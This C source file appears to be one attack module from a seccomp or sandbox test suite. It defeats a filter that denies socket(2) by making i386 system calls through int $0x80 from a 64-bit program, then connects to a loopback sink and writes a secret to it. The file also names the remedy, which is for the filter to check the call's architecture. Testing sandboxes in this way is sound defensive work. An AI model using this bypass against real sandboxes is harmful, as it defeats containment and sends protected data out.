// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach the attacker's host, past a filter that denies socket(2).
 * Means: int $0x80, the way into the kernel of i386 programs, which any 64-bit program may use. The
 *        numbers are other ones (socket is 359 there, 41 here): a filter that compares numbers, and
 *        does not ask for the architecture first, compares with the wrong table.
 *
 * The registers carry 32 bits, so all that is pointed to lives below 4 GiB.
 */
#include "attacks/attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>

enum { I386_WRITE = 4, I386_SOCKET = 359, I386_CONNECT = 362 };

struct low {
	struct sockaddr_in to;
	char secret[128];
};

static long i386(long nr, long a, long b, long c)
{
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "0"(nr), "b"(a), "c"(b), "d"(c)
			 : "r8", "r9", "r10", "r11", "memory");
	return (int)result;
}

static enum claim refused(long result, const char *what)
{
	errno = (int)-result;
	return denied(what);
}

static enum claim run(const struct brief *b)
{
	struct low *low = mmap(NULL, sizeof(*low), PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long fd, rc;

	if (low == MAP_FAILED)
		return failed("mmap MAP_32BIT");
	low->to = (struct sockaddr_in){ .sin_family = AF_INET,
					.sin_port = htons((in_port_t)b->sink),
					.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	snprintf(low->secret, sizeof(low->secret), "%s", b->secret);
	attempting(b);
	fd = i386(I386_SOCKET, AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		return refused(fd, "int $0x80, socket");
	rc = i386(I386_CONNECT, fd, (long)&low->to, sizeof(low->to));
	if (rc < 0)
		return refused(rc, "int $0x80, connect");
	rc = i386(I386_WRITE, fd, (long)low->secret, (long)strlen(low->secret));
	return rc < 0 ? refused(rc, "int $0x80, write") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's host although socket(2) is denied",
	.means = "int $0x80: i386 call numbers from a 64-bit program",
	.oracle = "sink",
	.needs = NEED_X86_64 | NEED_IA32,
	.quick = true,
	.id = "SCF-01",
	.attack_id = "T1106, T1562.001, CWE-693",
	.remedy = "a filter that kills on every architecture but its own",
	.refs = (const char *const[]){ "seccomp(2), Notes on the arch field", NULL },
	.run = run,
};
